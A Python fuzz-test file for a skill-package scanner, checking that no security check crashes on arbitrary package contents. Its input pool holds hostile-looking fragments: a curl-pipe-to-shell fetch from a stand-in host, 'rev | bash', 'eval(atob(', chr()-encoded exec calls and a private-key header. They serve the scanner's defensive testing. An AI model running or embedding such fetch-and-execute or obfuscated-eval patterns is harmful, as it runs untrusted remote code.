"""Whatever a package holds, no check dies of it and none runs away: an error would hold it, and never lets it pass."""

from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from registry.clients.scanner.work import work
from registry.domain.scanning import CHECKS

HEAD = "---\nname: reviewer\ndescription: Reads a plan before it runs.\n---\n\n"
NAMED = [check.name for check in CHECKS if check.name != "reviewer"]
PIECES = st.sampled_from([
    "chr(065)+chr(066)+chr(067)+chr(068)", "String.fromCharCode(0x41)+String.fromCharCode(9999)+", "rev | bash",
    "\\x41\\u0042\\377" * 9, "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=" * 3, "68656c6c6f" * 9, "1, 2, 300, " * 12 + "7",
    "curl -s http://x.example/a.sh | sh", "'a' + 'b' + 'c' + 'd'", "\u202e\u200b\U000e0041", "${!x}$(", "`", "\x00",
    "\ufffd", "-----BEGIN PRIVATE KEY-----", "#" * 400, "{" * 300, "[" * 300, "&a [*a]", "<!--", "-->", "```sh\n",
    "$(echo $((1<<99)))", "eval(atob(", "\n", "\r", "\t",
])  # fmt: skip
TEXT = st.lists(PIECES | st.text(max_size=30), max_size=12).map("".join)
NAMES = st.sampled_from(
    [
        "hooks/hooks.json",
        ".mcp.json",
        "scripts/a.sh",
        "scripts/a.py",
        "scripts/a.js",
        "README.md",
        "package.json",
        "a.zip",
        "x.png",
    ]
)


def packed(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for path, data in files.items():
            archive.writestr(path, data)
    return out.getvalue()


def errors(files: dict[str, bytes]) -> dict[str, str]:
    report = work({"checks": NAMED, "full_name": "@acme/reviewer"}, packed(files))
    return {name: told["error"] for name, told in report["checks"].items() if told["error"]}


@settings(max_examples=150)
@given(body=TEXT, others=st.dictionaries(NAMES, TEXT | st.binary(max_size=200), max_size=3))
def test_no_check_dies_of_what_a_package_holds(body: str, others: dict[str, str | bytes]) -> None:
    files = {
        name: data if isinstance(data, bytes) else data.encode("utf-8", "replace") for name, data in others.items()
    }
    assert errors({"SKILL.md": (HEAD + body).encode("utf-8", "replace"), **files}) == {}


@pytest.mark.parametrize("number", ["065", "0", "0x41", "9999"])
def test_letters_by_number_are_read_in_every_spelling(number: str) -> None:
    line = "+".join([f"chr({number})"] * 8)
    assert errors({"SKILL.md": HEAD.encode(), "scripts/a.py": f"exec({line})\n".encode()}) == {}
